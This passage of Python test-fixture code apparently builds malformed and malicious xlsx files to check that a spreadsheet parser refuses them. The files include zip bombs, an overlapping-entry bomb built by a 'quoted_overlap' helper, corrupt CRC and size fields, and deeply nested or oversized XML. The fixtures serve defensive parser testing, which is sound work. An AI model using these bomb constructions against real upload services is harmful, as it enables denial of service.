    refused("bomb-in-unused-part.xlsx", RAW, zipped(made + [Entry("docProps/thumbnail.emf", bytes(40 << 20))]), "TOO_LARGE", "a part nobody needs unpacks to 40 MB of zeros")
    case("blank-rows-million-unnumbered.xlsx", RAW, swap_all(SHEET, whole_sheet.replace(b"</sheetData>", b"<row/>" * 1048000 + b"</sheetData>")), "over a million equal blank rows: 6 MB, harmless")
    refused("bomb-attribute-10-mb.xlsx", RAW, swap(SHEET, sheet.replace(b"<sheetData>", b'<sheetPr codeName="' + b"a" * (10 << 20) + b'"/><sheetData>')), "TOO_LARGE|DAMAGED", "an attribute of 10 MB")
    case("xml-comment-12-mb.xlsx", RAW, swap_all(SHEET, whole_sheet.replace(b"<sheetData>", b"<!--" + b"a-" * (6 << 20) + b"a--><sheetData>")), "a comment of 12 MB before the rows: harmless")
    refused("bomb-text-12-mb.xlsx", RAW, swap(SHEET, sheet.replace(b"</sheetData>", b'<row r="40"><c r="A40" t="inlineStr"><is><t>' + b"a" * (12 << 20) + b"</t></is></c></row></sheetData>")), "TOO_LARGE|DAMAGED", "a text of 12 MB in one cell")
    refused("bomb-element-names.xlsx", RAW, swap(SHEET, sheet.replace(b"<sheetData>", b"<" + b"a" * (10 << 20) + b"/><sheetData>")), "TOO_LARGE|DAMAGED", "an element whose name has 10 MB")
    refused("bomb-undeclared-size.xlsx", RAW, swap(SHEET, bomb, size=4096), "TOO_LARGE|DAMAGED", "a sheet said to unpack to 4 KB unpacks to 40 MB")
    refused("bomb-declared-4-gb.xlsx", RAW, swap(SHEET, sheet, size=0xFFFFFFF0), "TOO_LARGE|DAMAGED", "a small sheet said to unpack to 4 GB")
    refused("bomb-quoted-overlap.xlsx", RAW, quoted_overlap(made), "DAMAGED|FORBIDDEN|TOO_LARGE", "entries that quote each other's headers and share one kernel of zeros")
    kernel = Entry("xl/media/a0.bin", bytes(1 << 20))
    refused("zip-overlapping-entries.xlsx", RAW, zipped([kernel] + [Entry(f"xl/media/a{i}.bin", bytes(1 << 20), at=0) for i in range(1, 40)] + made), "DAMAGED|FORBIDDEN|TOO_LARGE", "forty names for the same packed bytes")
    refused("deep-nesting.xlsx", RAW, swap(SHEET, sheet.replace(b"<sheetData>", b"<a>" * 100000 + b"</a>" * 100000 + b"<sheetData>")), "DAMAGED|TOO_LARGE|FORBIDDEN", "elements nested 100,000 deep")
    refused("many-attributes.xlsx", RAW, swap(SHEET, sheet.replace(b"<sheetData>", b"<sheetPr " + b" ".join(b'a%d=""' % i for i in range(11000)) + b"/><sheetData>")), "DAMAGED|TOO_LARGE|FORBIDDEN", "an element with 11,000 attributes")
    case("styles-64000.xlsx", RAW, swap_all("xl/styles.xml", STYLES.encode().replace(b"</cellXfs>", b"<xf/>" * 64000 + b"</cellXfs>")), "64,000 styles, as workbooks gather over the years: harmless")

    refused("zip-entry-lies-short.xlsx", RAW, swap(SHEET, sheet, size=100), "DAMAGED|TOO_LARGE", "the directory says the sheet has 100 bytes")
    refused("zip-packed-size-too-small.xlsx", RAW, swap(SHEET, sheet, packed_size=200), "DAMAGED", "the directory cuts the packed sheet off")
    refused("zip-corrupt-crc.xlsx", RAW, swap(SHEET, sheet, crc=0x12345678), "DAMAGED", "the check sum of the sheet is wrong")
    refused("zip-corrupt-crc-shared-strings.xlsx", RAW, swap("xl/sharedStrings.xml", strings, crc=1), "DAMAGED", "the check sum of the shared strings is wrong")
    refused("zip-truncated-deflate.xlsx", RAW, swap(SHEET, sheet, packed=deflated(sheet)[:300]), "DAMAGED", "the packed sheet breaks off")
    refused("zip-garbled-deflate.xlsx", RAW, swap(SHEET, sheet, packed=b"\xff" * 300), "DAMAGED", "the packed sheet is no packed data")
    whole = zipped(made)
    refused("zip-truncated.xlsx", RAW, whole[:len(whole) * 2 // 3], "DAMAGED", "the upload broke off")
    refused("zip-directory-only.xlsx", RAW, whole[:4] + whole[-22:], "DAMAGED", "only the end of the archive is left")
    refused("zip-empty-archive.xlsx", RAW, zipped([]), "DAMAGED|NOT_A_WORKBOOK", "an archive without entries")
    refused("zip-encrypted-entry.xlsx", RAW, swap(SHEET, sheet, flags=1), "ENCRYPTED", "an entry encrypted by a zip program")
    refused("zip-encrypted-shared-strings.xlsx", RAW, swap("xl/sharedStrings.xml", strings, flags=1), "ENCRYPTED", "only the shared strings are encrypted")
    refused("zip-unknown-method.xlsx", RAW, methods(made), "DAMAGED", "an entry packed by a method nobody knows")
    refused("zip-duplicate-entries.xlsx", RAW, zipped(made + [(SHEET, sheet.replace(b"1198.76", b"9999.99").decode())]), "DAMAGED|FORBIDDEN", "two entries of the same name with other figures")
    refused("zip-duplicate-entries-by-case.xlsx", RAW, zipped(made + [(SHEET.upper(), sheet.replace(b"1198.76", b"9999.99").decode())]), "DAMAGED|FORBIDDEN", "two entries whose names differ in case only")
    refused("zip-stub-in-front.xlsx", RAW, zipped(made, lead=b"MZ" + bytes(62)), "NOT_A_WORKBOOK", "a program with a workbook behind it")

    def xml(name, reason, edit, what):
        def change(made):
            edit(made)
        refused(name, RAW, workbook(small(), change), reason, what)

    def in_sheet(old, new, count=1):
        def edit(made):
            assert old in made[SHEET], old
            made[SHEET] = made[SHEET].replace(old, new, count)
        return edit
    xml("row-number-2-31.xlsx", "DAMAGED", in_sheet('<row r="9">', '<row r="2147483648">'), "a row numbered 2^31")
    xml("row-number-too-large.xlsx", "DAMAGED", in_sheet("</sheetData>", '<row r="1048577"><c r="A1048577"><v>1</v></c></row></sheetData>'), "a row below the last one")
    xml("row-number-negative.xlsx", "DAMAGED", in_sheet('<row r="9">', '<row r="-19">'), "a row of negative number")
    xml("row-number-twice.xlsx", "DAMAGED", in_sheet('<row r="10">', '<row r="9">'), "two rows of the same number")
    xml("row-numbers-descend.xlsx", "DAMAGED", in_sheet('<row r="10">', '<row r="2">'), "a row above the one before")
    xml("column-beyond-xfd.xlsx", "DAMAGED", in_sheet("</sheetData>", '<row r="40"><c r="XFE40"><v>1</v></c></row></sheetData>'), "a column right of the last one")
    xml("column-reference-endless.xlsx", "DAMAGED", in_sheet("</sheetData>", f'<row r="40"><c r="{"Z" * 5000}40"><v>1</v></c></row></sheetData>'), "a column of 5,000 letters")
    xml("shared-string-out-of-range.xlsx", "DAMAGED", in_sheet('t="s"><v>0</v>', 't="s"><v>999999</v>'), "a text that the list of texts does not have")
    xml("shared-string-negative.xlsx", "DAMAGED", in_sheet('t="s"><v>0</v>', 't="s"><v>-1</v>'), "a text of negative number")
    xml("styles-missing.xlsx", "DAMAGED", lambda made: made.pop("xl/styles.xml"), "the styles are named but not there: dates could not be told from numbers")
    xml("shared-strings-missing.xlsx", "DAMAGED", lambda made: made.pop("xl/sharedStrings.xml"), "the list of texts is missing")
    xml("sheet-xml-cut-off.xlsx", "DAMAGED", lambda made: made.update({SHEET: made[SHEET][:len(made[SHEET]) // 2]}), "the XML of the sheet breaks off")
    xml("sheet-xml-not-well-formed.xlsx", "DAMAGED", in_sheet("</row>", "</rwo>"), "an end tag that does not fit")
    xml("shared-strings-bad-utf-8.xlsx", "DAMAGED", lambda made: made.update({"xl/sharedStrings.xml": made["xl/sharedStrings.xml"].encode().replace("订单".encode(), b"\xc0\xaf\xff")}), "bytes that are no UTF-8 in a text that counts")
    xml("sheet-xml-control-character.xlsx", "DAMAGED", in_sheet("<v>1198.76</v>", "<v>1198&#1;.76</v>"), "a character that XML does not allow")
    xml("sheet-part-missing.xlsx", "DAMAGED", lambda made: made.pop(SHEET), "the sheet is named but not there")
    xml("sheet-relation-missing.xlsx", "DAMAGED", lambda made: made.update({"xl/workbook.xml": made["xl/workbook.xml"].replace('r:id="rId1"', 'r:id="rId55"')}), "the only sheet points nowhere")
    xml("workbook-without-sheets.xlsx", "DAMAGED", lambda made: made.update({"xl/workbook.xml": workbook_xml([])}), "a workbook without sheets")
    xml("workbook-part-missing.xlsx", "DAMAGED", lambda made: made.pop("xl/workbook.xml"), "the workbook itself is missing")
    xml("relations-missing.xlsx", "NOT_A_WORKBOOK|DAMAGED", lambda made: made.pop("_rels/.rels"), "nothing says which part is the workbook")
    xml("relation-to-itself.xlsx", "NOT_A_WORKBOOK|DAMAGED", lambda made: made.update({"_rels/.rels": relations(("rId1", "officeDocument", "_rels/.rels"))}), "the relations name themselves as the workbook")
    xml("sheet-is-the-workbook.xlsx", "DAMAGED", lambda made: made.update({"xl/_rels/workbook.xml.rels": made["xl/_rels/workbook.xml.rels"].replace("worksheets/sheet1.xml", "workbook.xml")}), "the workbook names itself as its sheet")

    ods = "application/vnd.oasis.opendocument.spreadsheet"
    document = zipped([Entry("mimetype", ods.encode(), stored=True), ("META-INF/manifest.xml", f'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="{ods}"/></manifest:manifest>'), ("content.xml", f"<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'><!-- {NOTE} --></office:document-content>")])
    refused("opendocument-sheet.ods", RAW, document, "NOT_A_WORKBOOK", "an OpenDocument sheet")
    refused("opendocument-sheet-named-xlsx.xlsx", RAW, document, "NOT_A_WORKBOOK", "an OpenDocument sheet renamed")
    chart = parts(small())
    chart_sheet(chart)
    chart["xl/workbook.xml"] = workbook_xml([("图", "", "rId77")])
    case("chart-sheet-only.xlsx", RAW, zipped(list(chart.items())), "a workbook of nothing but a chart sheet", "NO_REPORT")
    body = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>示例</w:t></w:r></w:p></w:body></w:document>'
    refused("word-document-named-xlsx.xlsx", RAW, zipped([("[Content_Types].xml", types(0)), ("_rels/.rels", relations(("rId1", "officeDocument", "word/document.xml"))), ("word/document.xml", DECLARATION + body)]), "NOT_A_WORKBOOK", "a Word document renamed")
    refused("plain-archive-named-xlsx.xlsx", RAW, zipped([("月报.txt", NOTE)]), "NOT_A_WORKBOOK", "an archive of other files renamed")
    refused("workbook-in-an-archive.xlsx", RAW, zipped([Entry("月报.xlsx", whole, stored=True)]), "NOT_A_WORKBOOK", "an archive with the workbook in it")


def methods(made):
    entries = [Entry(name, xml.encode()) for name, xml in made]
    entries[3].method = 77
    return zipped(entries)


def quoted_overlap(made):
    """A bomb after Fifield: every entry's data quotes the header of the next and goes on into it."""
    count, kernel = 120, bytes(256 << 10)
    entry = Entry("xl/z0", kernel)
    packed, plain, chain = entry.packed, kernel, [entry]
    for i in range(1, count):
        header = entry.local()
        packed = b"\0" + struct.pack("<HH", len(header), len(header) ^ 0xFFFF) + header + packed
        plain = header + plain
        entry = Entry(f"xl/z{i}", plain, packed=packed)
        chain.append(entry)
    first = chain[-1]
    entries, at = [first], 0
    for one in reversed(chain[:-1]):
        at += len(entries[-1].local()) + 5
        entries.append(one)
        one.at = at
    return zipped(entries + made)


def make():
    cells()
    packages()
    sheets()
    outside()
    attacks()
